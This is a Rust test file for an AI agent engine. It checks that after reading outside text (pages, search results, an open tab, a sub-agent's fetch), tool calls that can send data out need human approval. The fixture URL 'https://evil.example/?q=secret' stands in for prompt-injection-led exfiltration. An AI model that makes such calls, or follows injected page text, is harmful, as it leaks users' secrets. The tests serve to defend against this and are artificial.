//! Text from outside taints a session: then a person decides about what can send data out.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

use samovar_core::approval::Answer;
use samovar_core::command::Post;
use samovar_core::situation::{Posted, Tab};
use samovar_core::tool::{OutsideText, Sends};
use samovar_core::{
    Action, Approval, CallFacts, Decision, Delivery, Effect, Kind, Outcome, PostedContext, Sender,
    Status, ToolReply, TurnId,
};
use samovar_doubles::{TestTool, call, say};
use samovar_engine::{Beginning, Conversation, Settings};
use serde_json::{Value, json};

use crate::children::{agent, delegate, world};
use crate::in_memory;
use crate::rig::{Rig, said, settings, turn_of};

const EVIL: &str = "https://evil.example/?q=secret";

fn page() -> Value {
    json!({"url": "https://page.example/"})
}

fn tools() -> Vec<TestTool> {
    let done = |name: &str| TestTool::new(name, |_, _| async { closed(Outcome::done("ok")) });
    let fetch = TestTool::new("fetch", |_, _| async {
        closed(Outcome::done("see [more](https://linked.example/a)"))
    });
    let fetch = fetch.effect(Effect::Read).knowing(|args| CallFacts {
        grants: Some(Vec::new()),
        outside: Some(OutsideText::Page),
        sends: args["url"]
            .as_str()
            .map(|url| Sends::Address(url.to_owned())),
        ..CallFacts::default()
    });
    let results = json!({"results": [{"url": "https://found.example/", "title": "t"}]});
    let search = TestTool::new("search", move |_, _| {
        let found = Outcome::done("https://text.example").with_data(results.clone());
        async { closed(found) }
    });
    let search = search.knowing(|_| CallFacts {
        grants: Some(Vec::new()),
        outside: Some(OutsideText::Search),
        sends: Some(Sends::Query),
        ..CallFacts::default()
    });
    let changes = Arc::new(Mutex::new(json!(1)));
    vec![
        fetch.built_in(),
        search.built_in(),
        done("send").foreign().effect(Effect::Unsafe).target("one"),
        done("look").foreign().effect(Effect::Read),
        done("keep").seeing(&changes),
    ]
}

fn closed(outcome: Outcome) -> ToolReply {
    ToolReply::Closed(outcome)
}

fn auto() -> Settings {
    Settings {
        approval: Approval::Auto,
        ..settings()
    }
}

/// A model that makes these calls one after another.
async fn rig(calls: &[(&'static str, Value)], settings: Settings) -> Rig {
    let calls = calls.to_vec();
    let next = move |_: &str, results: usize| match calls.get(results) {
        Some((name, args)) => call(name, args.clone()),
        None => say("done"),
    };
    Rig::by(next, tools(), settings).await
}

/// The log of a turn whose questions are all answered so, and the calls that were asked about.
async fn run(rig: &Rig, turn: &TurnId, decision: Decision) -> (Vec<Kind>, String) {
    let decide = async {
        let mut decided = BTreeSet::new();
        loop {
            for open in rig.engine.approvals().await.unwrap() {
                let id = open.asked.unwrap().id.clone();
                if decided.insert(id.clone()) {
                    let answer = Answer {
                        decision,
                        by: "owner".to_owned(),
                        words: None,
                    };
                    let decided = rig.engine.decide(Sender::Embedder, id, answer);
                    decided.await.unwrap();
                }
            }
            tokio::time::sleep(std::time::Duration::from_millis(1)).await;
        }
    };
    let kinds = tokio::select! {
        kinds = rig.log_of(turn) => kinds,
        () = decide => unreachable!(),
    };
    let asked = |call| {
        let is_it =
            |kind: &Kind| matches!(kind, Kind::ApprovalAsked { call: of, .. } if of == call);
        kinds.iter().any(is_it)
    };
    let closed = kinds.iter().filter_map(|kind| match kind {
        Kind::CallClosed { call, .. } => Some(if asked(call) { 'a' } else { 'r' }),
        _ => None,
    });
    let closed = closed.collect();
    (kinds, closed)
}

async fn asked(rig: &Rig, text: &str) -> String {
    let turn = rig.post(text).await;
    run(rig, &turn, Decision::Once).await.1
}

/// What a person says, which calls are asked about (a) and which are not (r), and the calls.
const ROWS: [(&str, &str, &str); 16] = [
    ("go", "rr", "keep:a.md keep:AGENTS.md"),
    ("go", "rr", "send keep:a.md"),
    ("go", "ra", "fetch:page.example send"),
    ("go", "ra", "search send"),
    ("go", "ra", "look send"),
    ("go", "ra", "send send"),
    ("go", "rrr", "fetch:page.example look search"),
    (
        "go",
        "raa",
        "fetch:page.example fetch:evil.example fetch:page.example",
    ),
    // Who allows an address gives it.
    (
        "go",
        "rar",
        "fetch:page.example fetch:evil.example fetch:evil.example",
    ),
    (
        "read page.example",
        "rrr",
        "fetch:page.example fetch:page.example fetch:page.example",
    ),
    (
        "read page.example",
        "ra",
        "fetch:page.example fetch:evil.example",
    ),
    (
        "read page.example/a",
        "ra",
        "fetch:page.example/a fetch:page.example/a?q=secret",
    ),
    ("go", "rra", "search fetch:found.example fetch:text.example"),
    ("go", "rr", "fetch:page.example fetch:linked.example/a"),
    (
        "go",
        "ra",
        "fetch:page.example fetch:linked.example/a?q=secret",
    ),
    ("go", "rra", "fetch:page.example keep:a.md keep:AGENTS.md"),
];

fn calls(row: &'static str) -> Vec<(&'static str, Value)> {
    let call = |word: &'static str| match word.split_once(':') {
        Some(("fetch", address)) => ("fetch", json!({"url": format!("https://{address}")})),
        Some((name, path)) => (name, json!({ "path": path })),
        None => (word, json!({})),
    };
    row.split(' ').map(call).collect()
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn after_text_from_outside_a_person_decides_about_what_can_send_data_out() {
    for (text, expected, row) in ROWS {
        let rig = rig(&calls(row), auto()).await;
        assert_eq!(asked(&rig, text).await, expected, "{text}: {row}");
        assert_eq!(
            rig.row().await.tainted,
            !row.starts_with("keep"),
            "{text}: {row}"
        );

        let stricter = Settings {
            approval: Approval::Supervised,
            ..settings()
        };
        let rig = self::rig(&calls(row), stricter).await;
        let asked = asked(&rig, text).await;
        let is_less = |(found, at_auto): (char, char)| found == 'r' && at_auto == 'a';
        assert!(
            !asked.chars().zip(expected.chars()).any(is_less),
            "{text}: {row}"
        );
    }
}

// proves TL-10, DU-7
#[tokio::test(start_paused = true)]
async fn a_session_stays_tainted_and_knows_what_was_named_after_a_restart() {
    let next = |said: &str, results: usize| match (said, results) {
        // First, before anything of this life taints the session.
        ("go on", 0) => call("send", json!({})),
        ("go on" | "read page.example", 1) => call("fetch", page()),
        ("go on", 2) => call("fetch", json!({"url": "https://found.example/"})),
        ("go on", 3) => call("fetch", json!({"url": EVIL})),
        ("read page.example", 0) => call("search", json!({})),
        _ => say("done"),
    };
    let rig = Rig::by(next, tools(), auto()).await;
    assert_eq!(asked(&rig, "read page.example").await, "rr");

    let rig = rig.restart().await;

    assert!(rig.row().await.tainted);
    assert_eq!(asked(&rig, "go on").await, "arra");
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn a_search_after_text_from_outside_is_asked_about_once_a_session_unless_the_level_is_auto() {
    let supervised = Settings {
        approval: Approval::Supervised,
        ..settings()
    };
    let next = |said: &str, results: usize| match (said, results) {
        ("first", 0) => call("fetch", page()),
        ("first", 1 | 2) | ("again", 0) => call("search", json!({})),
        ("first" | "again", 3 | 1) => call("fetch", json!({"url": "https://found.example/"})),
        _ => say("done"),
    };
    let rig = Rig::by(next, tools(), supervised).await;
    assert_eq!(asked(&rig, "first").await, "rarr");
    let rig = rig.restart().await;
    assert_eq!(asked(&rig, "again").await, "rr");

    // What a search found unasked after text from outside, a page may have led it to.
    let row = "fetch:page.example search fetch:found.example";
    let rig = self::rig(&calls(row), auto()).await;
    assert_eq!(asked(&rig, "go").await, "rra");
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn what_the_person_has_open_taints_a_session_too() {
    let rig = rig(&[("send", json!({}))], auto()).await;
    let context = PostedContext {
        active_tab: Some(Tab::default()),
        ..PostedContext::default()
    };
    let mut action = said("go", Delivery::Queue);
    if let Action::Post(Post { posted, .. }) = &mut action {
        *posted = Posted::new(Some(context), None).unwrap();
    }
    let turn = turn_of(rig.submit(action).await);
    assert_eq!(run(&rig, &turn, Decision::Once).await.1, "a");
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn what_a_called_agent_reads_taints_its_caller_and_it_knows_what_the_person_named() {
    let world = world(|who, _, results| match (who, results) {
        ("browser", 0 | 1) => call("fetch", page()),
        ("master", 0) => call("subAgent", delegate("browser", "read https://evil.example")),
        ("browser", 2) => call("fetch", json!({"url": EVIL})),
        ("master", 1) => call("send", json!({})),
        _ => say("done"),
    });
    let agents = [agent("browser", &["fetch"], &[])];
    let rig = Rig::delegating(world, tools(), agents, auto()).await;
    let turn = rig.post("what is on page.example?").await;
    let (_, of_caller) = run(&rig, &turn, Decision::Once).await;
    let log = crate::children::log(&rig, &turn).await;
    let asked: Vec<_> = log
        .iter()
        .filter_map(|event| match &event.kind {
            Kind::ApprovalAsked { call, .. } => Some((event.agent.name().to_owned(), call)),
            _ => None,
        })
        .collect();
    let agents: Vec<_> = asked.iter().map(|(agent, _)| agent.as_str()).collect();
    // The page that the caller's task names is not named by a person.
    assert_eq!(agents, ["browser", "master"]);
    assert_eq!(of_caller, "ra");
}

// proves TL-5, TL-10
#[tokio::test(start_paused = true)]
async fn what_was_allowed_before_the_text_came_does_not_count_after_it() {
    let send = || ("send", json!({}));
    let fetch = |url: &str| ("fetch", json!({ "url": url }));
    let supervised = Settings {
        approval: Approval::Supervised,
        ..settings()
    };
    let rules = supervised.rules.clone();
    let calls = [
        send(),
        send(),
        send(),
        fetch(EVIL),
        fetch("https://other.example"),
    ];
    let rig = rig(&calls, supervised).await;
    let turn = rig.post("go").await;
    let decide = async |decision| {
        let open = rig.calls(1).await.pop().unwrap().asked.unwrap();
        let answer = Answer {
            decision,
            by: "owner".to_owned(),
            words: None,
        };
        let decided = rig
            .engine
            .decide(Sender::Embedder, open.id.clone(), answer)
            .await;
        (
            open.grant.as_ref().map(|grant| grant.tainted),
            decided.is_ok(),
        )
    };
    assert_eq!(decide(Decision::Always).await, (Some(false), true));
    // Its own result tainted the session; the third call runs by the second rule.
    assert_eq!(decide(Decision::Always).await, (Some(true), true));
    // Who allows one host allows no other.
    assert_eq!(decide(Decision::Always).await, (None, false));
    assert_eq!(decide(Decision::Once).await, (None, true));
    assert_eq!(decide(Decision::Once).await, (None, true));
    rig.over(&turn).await;
    assert_eq!(rules.list().len(), 2);
}

// proves TL-10
#[tokio::test(start_paused = true)]
async fn what_is_said_to_a_session_in_memory_names_no_host() {
    let next = |_: &str, results: usize| match results {
        0 | 1 => call("fetch", page()),
        _ => say("done"),
    };
    let unattended = || Settings {
        is_unattended: true,
        ..auto()
    };
    let rig = Rig::by(next, tools(), unattended()).await;
    let session = in_memory::begin(&rig, in_memory::toolbox(tools()), unattended());
    let text = "read page.example";
    let turn = rig.post(text).await;
    let stored = rig.log_of(&turn).await;
    let seen = in_memory::turn(&session, text).await;
    let in_memory: Vec<_> = seen.iter().map(|event| event.kind.clone()).collect();
    let statuses = |kinds: &[Kind]| -> Vec<_> {
        let closed = kinds.iter().filter_map(|kind| match kind {
            Kind::CallClosed { outcome, .. } => Some(outcome.status),
            _ => None,
        });
        closed.collect()
    };
    assert_eq!(statuses(&stored), [Status::Done, Status::Done]);
    // Others than the person write in a chat.
    assert_eq!(statuses(&in_memory), [Status::Done, Status::Denied]);
    let beginning = Beginning {
        model: "scripted".to_owned(),
        toolbox: in_memory::toolbox(tools()),
        settings: unattended(),
        conversation: Conversation {
            before: 1,
            ..Conversation::default()
        },
    };
    let session = rig.engine.begin_in_memory(beginning).unwrap();
    let seen = in_memory::turn(&session, text).await;
    let continued: Vec<_> = seen.iter().map(|event| event.kind.clone()).collect();
    // What the conversation before it was about is not known.
    assert_eq!(statuses(&continued), [Status::Denied, Status::Denied]);
}
